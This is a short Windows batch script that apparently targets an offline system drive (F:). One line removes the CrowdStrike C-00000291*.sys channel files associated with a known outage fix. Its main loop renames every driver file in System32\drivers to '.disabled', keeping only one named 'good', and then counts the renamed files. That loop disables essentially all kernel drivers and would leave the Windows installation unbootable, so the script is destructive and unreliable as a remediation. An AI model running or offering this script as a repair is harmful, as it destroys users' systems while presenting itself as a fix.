md F:\temp
@echo off
for /f "usebackq delims=" %%i in (`dir /b /a-d "F:\Windows\System32\drivers\*.sys"`) do (
  if /i "%%~xi"==".sys" if /i not "%%~ni"=="good" ren "F:\Windows\System32\drivers\%%i" "%%~ni.disabled"
)
for /r "F:\Windows\System32\drivers\CrowdStrike" %%f in (C-00000291*.sys) do del /f "%%f"
pushd F:\Windows\System32\drivers & dir /b *.disabled > F:\temp\renamed.txt & popd
type F:\temp\renamed.txt | find /c ".disabled"
